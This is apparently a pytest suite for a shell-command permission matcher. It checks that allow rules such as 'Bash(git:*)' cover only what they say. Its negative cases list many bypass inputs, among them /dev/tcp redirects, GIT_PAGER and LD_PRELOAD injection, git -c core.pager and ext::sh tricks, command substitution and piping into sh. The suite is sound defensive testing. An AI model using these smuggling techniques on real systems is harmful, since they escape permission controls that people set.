import pytest

from nacre.model.verdict import Decision
from policy.judging import decision, verdict

ALLOW, ASK = Decision.ALLOW, Decision.ASK


@pytest.mark.parametrize(
    "script",
    [
        "git",
        "  git   status",
        "git status && git diff | git apply",
        "(git status)",
        "{ git status; git diff; }",
        "if git diff --quiet; then git status; fi",
        "for f in a b; do git add $f; done",
        "while git fetch; do git status || true; done",
        'git commit -m "a && touch x; b | c"',
        'git commit -m "fix #12; done"',
        'git commit -m "$(git log -1 --format=%s)"',
        "git commit -F - <<'E'\nrm x; > y\nE",
        "git log > /dev/null 2>&1",
        "git log 2>/dev/stderr >&2",
        "NODE_ENV=test LC_ALL=C git status",
        "TZ=UTC",
        "time git status",
        "timeout 60 nice -n 5 git gc",
        "command git status",
        "xargs git add < list",
        'g""it status',
        "git status; # done",
        "git log \\\n  --oneline",
        "cd sub && git status",
        "cd /srv/proj && git status",
        'cd "$PWD/a" && git log',
        "git -C sub status",
        "git --no-pager log",
        "git log -p -1",
        "git log --oneline --author=x",
        "git add *.py",
        'git add "$file"',
        'f() { git add "$@"; }; f x',
        "git diff HEAD -- a b",
        "git config user.name me",
        "git push -o ci.skip",
        "[ -f x ] && git log || exit 1",
        "! git diff --quiet",
    ],
)
def test_a_rule_covers_its_command(script: str) -> None:
    assert decision(script, allow=["Bash(git:*)"], default="ask") is ALLOW


@pytest.mark.parametrize(
    "script",
    [
        "gitk",
        "git status && touch x",
        "git status | tee x",
        "git status & touch x",
        "git status\ntouch x",
        'git log --format="$(touch x)"',
        "git log `touch x`",
        "git log <(touch x)",
        "git log > out.txt",
        "git log >> ~/.bashrc",
        'git log > "$x"',
        "git log &> out",
        "git log >| out",
        "git log 3<> out",
        "git log > /dev/tcp/1.2.3.4/80",
        "git log < /dev/tcp/1.2.3.4/80",
        "git log < /dev/tc$x",
        "\\time -o f git log",
        "test -v 'a[$(touch x)]'",
        "{ git log; } > out",
        "> out",
        "FOO=bar git status",
        'GIT_PAGER="sh -c id" git log',
        "LD_PRELOAD=./x.so git status",
        "PATH=/tmp:$PATH git status",
        'export PAGER="sh -c id"; git branch',
        "PAGER=evil; git log",
        "git log ${PAGER:=evil}",
        "for PATH in /tmp/evil; do git status; done",
        "git() { touch x; }; git status",
        "shopt -s expand_aliases; alias git=touch\ngit x",
        "sudo git status",
        "env git status",
        "setsid git gc",
        "flock l git gc",
        "npx git status",
        "docker exec c git status",
        "ssh h git status",
        "bash -c 'git status'",
        "eval git status",
        "./timeout 5 git status",
        "./git status",
        "/usr/bin/git status",
        "~/git status",
        "g?t status",
        "{git,status}",
        "x=git; $x status",
        "$x status",
        "$(git --version) x",
        "git log &&& touch x",
        "git log 'unterminated",
        "cd /tmp",
        "cd .. && git status",
        "cd && git status",
        "cd - && git status",
        'cd "$x" && git status',
        "cd sub/$x && git log",
        "git -c core.pager='sh -c id' log",
        "git -ccore.pager=cat log",
        "git --paginate log",
        "git --exec-path=/tmp log",
        "git -C /tmp/evil status",
        'git -C "$x" status',
        "git --git-dir=/tmp/x log",
        "git log --output=/tmp/x",
        "git log --outpu=/tmp/x",
        "git ls-remote --upload-pa='sh -c id' x",
        "git fetch ext::sh x",
        "git grep -Oless x",
        "git rebase -x 'make test' main",
        "git clone -c core.fsmonitor=x y",
        "git config core.pager x",
        "git config --global alias.x '!sh'",
        "git submodule foreach 'touch x'",
        "git bisect run ./x",
        "git archive -o x HEAD",
    ],
)
def test_a_rule_covers_no_more_than_it_says(script: str) -> None:
    assert decision(script, allow=["Bash(git:*)"], default="ask") is ASK


def test_a_pipe_into_a_shell_is_covered_by_no_star() -> None:
    for script in ("echo 'rm x' | sh", "echo $x | sh", "echo x | sh -s"):
        assert decision(script, allow=["Bash(echo:*)", "Bash(sh:*)"], default="ask") is ASK


def test_another_folder_may_have_hooks_of_its_own() -> None:
    allow = ["Bash(git:*)", "Bash(cd:*)"]
    assert decision("cd /tmp/other && git status", allow=allow, default="ask") is ASK
    assert decision("cd /tmp/other", allow=allow, default="ask") is ALLOW


@pytest.mark.parametrize(
    ("rule", "script", "wanted"),
    [
        ("Bash(npm run test)", "npm run test # quick", ALLOW),
        ("Bash(npm run test)", 'npm run "test"', ALLOW),
        ("Bash(npm run test)", "timeout 60 npm run test", ALLOW),
        ("Bash(npm run test)", "npm run test; npm run test", ALLOW),
        ("Bash(npm run test)", "npm run test:unit", ASK),
        ("Bash(npm run test)", "npm run test -- x", ASK),
        ("Bash(npm run test)", "npm run test > out.txt", ASK),
        ("Bash(npm run test)", 'npm "run test"', ASK),
        ("Bash(npm run test)", "npm run $x", ASK),
        ("Bash(npm run test > out.txt)", "npm run  test > out.txt", ALLOW),
        ("Bash(npm run test > out.txt)", "npm run test > other.txt", ASK),
        ("Bash(FOO=1 make)", "FOO=1 make", ALLOW),
        ("Bash(FOO=1 make:*)", "FOO=1 make all", ALLOW),
        ("Bash(FOO=1 make:*)", "FOO=2 make all", ASK),
        ("Bash(* make)", "FOO=1 make", ASK),
        ("Bash(find . -delete)", "find . -delete", ALLOW),
        ("Bash(./gradlew:*)", "./gradlew build", ALLOW),
        ("Bash(./gradlew:*)", "gradlew build", ASK),
        ("Bash(~/bin/x:*)", "~/bin/x a", ALLOW),
        ("Bash($EDITOR f)", "$EDITOR f", ALLOW),
        ("Bash(* --version)", "node --version", ALLOW),
        ("Bash(* --version)", "$x --version", ASK),
        ("Bash(git * main)", "git checkout main", ALLOW),
        ("Bash(git * main)", "git log; echo main", ASK),
        ("Bash(echo:*)", "echo *.py", ALLOW),
        ("Bash(echo:*)", 'echo \\"; touch /tmp/x; echo \\"', ASK),
        ("Bash(grep:*)", "grep -n 'a|b' file", ALLOW),
        ("Bash(curl http://github.com/:*)", "curl http://github.com.evil.test/", ASK),
        ("Bash(watch:*)", "watch ls", ASK),
        ("Bash(watch ls:*)", "watch ls", ASK),
        ("Bash(watch ls)", "watch ls", ALLOW),
        ("Bash(sudo:*)", "sudo ls", ASK),
        ("Bash(sudo apt-get:*)", "sudo apt-get update", ALLOW),
        ("Bash(sudo apt-get:*)", "sudo apt-getx", ASK),
        ("Bash(sudo git status)", "sudo git status", ALLOW),
        ("Bash(npx prettier:*)", "npx prettier --check .", ALLOW),
        ("Bash(npx:*)", "npx prettier --check .", ASK),
        ("Bash(devbox run npm test)", "devbox run npm test", ALLOW),
        ("Bash(devbox run npm test)", "devbox run rm -rf .", ASK),
        ("Bash(bash:*)", "bash -c 'ls'", ASK),
        ("Bash(bash:*)", "bash script.sh", ALLOW),
        ("Bash(bash:*)", "bash < script.sh", ASK),
        ("Bash(bash:*)", "bash <<< 'rm x'", ASK),
        ("Bash(bash -c:*)", "bash -c 'ls'", ASK),
        ("Bash(bash -c 'ls':*)", "bash -c 'ls'", ALLOW),
        ("Bash(docker exec:*)", "docker exec web ls", ALLOW),
        ("Bash(python:*)", "python -c 'import os; os.system(\"ls\")'", ALLOW),
        ("Bash(xargs:*)", "xargs -n1 rm", ASK),
        ("Bash(find:*)", "xargs find .", ASK),
        ("Bash(grep:*)", "xargs grep -l x", ALLOW),
        ("Bash", "x=1; $x > y; bash -c 'z'", ALLOW),
        ("Bash(*)", "> x", ALLOW),
    ],
)
def test_what_a_rule_covers(rule: str, script: str, wanted: Decision) -> None:
    assert decision(script, allow=[rule], default="ask") is wanted


def test_the_reason_says_what_is_not_covered() -> None:
    def reason(script: str, *allow: str) -> str:
        return verdict(script, allow=list(allow), default="ask").reason.partition(": ")[2]

    assert reason("find . -delete", "Bash(find:*)") == "Bash(find:*) does not cover -delete."
    assert reason("watch ls", "Bash(watch:*)") == "Bash(watch:*) does not cover what watch runs."
    assert reason("PAGER=x git log", "Bash(git:*)") == "it sets PAGER."
    assert reason("cat </dev/tcp/a/1", "Bash(cat:*)") == "it opens /dev/tcp/a/1."
    assert reason('"$x" y', "Bash(git:*)") == 'what "$x" runs is not known.'
